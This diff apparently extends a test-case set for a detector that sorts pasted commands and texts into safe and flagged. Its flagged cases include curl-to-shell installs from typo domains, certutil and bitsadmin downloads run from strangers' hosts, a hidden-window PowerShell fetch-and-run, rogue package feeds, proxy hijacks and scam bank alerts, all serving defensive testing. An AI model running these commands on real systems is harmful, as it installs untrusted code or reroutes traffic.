@@ -22,6 +22,16 @@ clears and the look-alikes it must not clear (ids `b6b-ok-<technique>-NN` and
   and requests are separate parts, and whose script loader sets src to its caller's argument.
   Look-alikes: a handler that sends the key (or a socket opened just before), a script element
   given a decoded, fetched or just-written address.
+- `vendor-name`: a vendor's own domain that is another word, not a typo of a known vendor's
+  (llama.com beside ollama.com: a typo keeps the name's first letter). Look-alikes: a letter
+  dropped or doubled inside the name (olama, ollamma), the name joined with a word.
+- `bank-notice`: a bank's genuine card-blocked notice with its number, which says what the bank
+  will never ask for or sends you to the number on your card. Look-alikes: the same alarm with
+  urgency and no such promise, and scam texts quoting a promise in another sentence shape.
+- `own-tool`: a vendor's own page fetching its own file with certutil or bitsadmin, a
+  company's own wiki registering its own package feed, its own docs setting its own proxy
+  script (HTTPS): the tool is no trait, the source is. Look-alikes: the same commands for a
+  stranger's host, from a stranger's page, over plain HTTP, in the Run box, with a hidden window.
 """
 
 from __future__ import annotations
@@ -380,6 +390,107 @@ book.add(
     "browser_console",
     None,
 )
+
+
+# --- vendor-name: another word is no typo ---
+for page, text in [
+    ("https://llama.com/docs/get-started", "curl -fsSL https://llama.com/install.sh | sh"),
+    ("https://www.llama.com/docs/overview", "curl -fsSL https://www.llama.com/install.sh | bash"),
+    ("https://llama.com/docs/get-started", "irm https://llama.com/install.ps1 | iex"),
+]:
+    book.add("vendor-name", text, ok, "linux", "terminal", page)
+for page, text in [
+    ("https://olama.com/download", "curl -fsSL https://olama.com/install.sh | sh"),
+    ("https://ollamma.com/download", "curl -fsSL https://ollamma.com/install.sh | sh"),
+    ("https://www.ollama-setup.test/", "curl -fsSL https://ollama-setup.test/install.sh | sh"),
+    ("https://docs.rustupp.rs/install", "curl -sSf https://rustupp.rs | sh"),
+]:
+    book.add("vendor-name", text, flagged, "linux", "terminal", page)
+
+# --- bank-notice: a bank's own card notice with its number ---
+for text in [
+    "HARBOR BANK: We have blocked your card ending 2231 because of a suspicious payment of "
+    "GBP 89.99 at ONLINE-STORE. If this was not you, call us on 0800 123 4567 (24/7). "
+    "We will never ask you to move money or for your PIN.",
+    "Northgate Bank alert: your debit card ending 8812 is blocked after a suspicious payment "
+    "attempt. Please call us on 0345 600 1234 or the number on the back of your card.",
+    "Ridgeway Bank: your card ending 4471 is temporarily blocked because we noticed "
+    "suspicious activity. Call us on +44 20 7946 0018. We will never ask for your passwords "
+    "by text.",
+    "Kestrel Credit Union: we blocked a card payment that looked suspicious. Call us on "
+    "1-800-555-0142 if you do not recognise it. We would never call to ask for your PIN.",
+]:
+    book.add("bank-notice", text, ok, "any", "unknown", None)
+    book.add("bank-notice", text, ok, "any", "other", None)
+for text in [
+    "Security alert: your bank card is blocked. Call us now on +1 555 014 2231 to avoid "
+    "permanent suspension of your account.",
+    "BANK ALERT: Your account is locked due to suspicious activity. Call support immediately "
+    "at 1-888-555-0199 or your funds will be lost.",
+]:
+    book.add("bank-notice", text, flagged, "any", "unknown", None)
+
+# --- own-tool: the vendor's own file fetched with a Windows tool ---
+OWN_TOOL = [
+    (
+        "https://quillnote.app/download/windows",
+        r"bitsadmin /transfer quill /download /priority normal https://quillnote.app/dl/QuillSetup.exe %TEMP%\QuillSetup.exe && %TEMP%\QuillSetup.exe",
+    ),
+    (
+        "https://quillnote.app/download/windows",
+        r"certutil -urlcache -split -f https://quillnote.app/dl/QuillSetup.exe %TEMP%\QuillSetup.exe && start %TEMP%\QuillSetup.exe",
+    ),
+    (
+        "https://docs.brackenhq.io/windows/install",
+        r"certutil -urlcache -f https://dl.brackenhq.io/bracken-agent.msi %TEMP%\bracken.msi && msiexec /i %TEMP%\bracken.msi /qn",
+    ),
+    (
+        "https://wiki.contoso-corp.com/it/dev-setup",
+        "Register-PSRepository -Name ContosoFeed -SourceLocation https://nuget.contoso-corp.com/v3/index.json -InstallationPolicy Trusted; Install-Module ContosoTools -Repository ContosoFeed; Import-Module ContosoTools",
+    ),
+    (
+        "https://docs.contoso-corp.com/it/proxy",
+        r"Set-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Internet Settings' -Name AutoConfigURL -Value 'https://proxy.contoso-corp.com/proxy.pac'",
+    ),
+    (
+        "https://docs.contoso-corp.com/it/proxy",
+        r'reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Internet Settings" /v AutoConfigURL /t REG_SZ /d "https://proxy.contoso-corp.com/corp.pac" /f',
+    ),
+]
+for page, text in OWN_TOOL:
+    book.add("own-tool", text, ok, "windows", "terminal", page)
+STRANGER_PAGE = "https://www.harbour-bistro.example/menu/winter"
+for page, text in [
+    (STRANGER_PAGE, OWN_TOOL[0][1]),
+    (STRANGER_PAGE, OWN_TOOL[1][1]),
+    (
+        "https://quillnote.app/download/windows",
+        r"certutil -urlcache -split -f https://quill-setup.test/QuillSetup.exe %TEMP%\q.exe && start %TEMP%\q.exe",
+    ),
+    (
+        "https://quillnote.app/download/windows",
+        r"certutil -urlcache -split -f http://quillnote.app/dl/QuillSetup.exe %TEMP%\q.exe && start %TEMP%\q.exe",
+    ),
+    (
+        "https://wiki.contoso-corp.com/it/dev-setup",
+        "Register-PSRepository -Name Fast -SourceLocation https://feed.pkg-mirror.test/v3/index.json -InstallationPolicy Trusted; Install-Module FastTools -Repository Fast; Import-Module FastTools",
+    ),
+    (
+        "https://docs.contoso-corp.com/it/proxy",
+        r"Set-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Internet Settings' -Name AutoConfigURL -Value 'https://pac.traffic-relay.test/p.pac'",
+    ),
+    (
+        "https://docs.contoso-corp.com/it/proxy",
+        r'reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Internet Settings" /v AutoConfigURL /t REG_SZ /d "http://wpad.contoso-corp.com/wpad.dat" /f',
+    ),
+    (
+        "https://quillnote.app/download/windows",
+        r"powershell -w hidden -c certutil -urlcache -split -f https://quillnote.app/dl/QuillSetup.exe %TEMP%\q.exe; start %TEMP%\q.exe",
+    ),
+]:
+    book.add("own-tool", text, flagged, "windows", "terminal", page)
+book.add("own-tool", OWN_TOOL[1][1], blocked, "windows", "run_dialog", OWN_TOOL[1][0])
+book.add("own-tool", OWN_TOOL[0][1], flagged, "windows", "unknown", None)
 
 
 CASES = book.cases
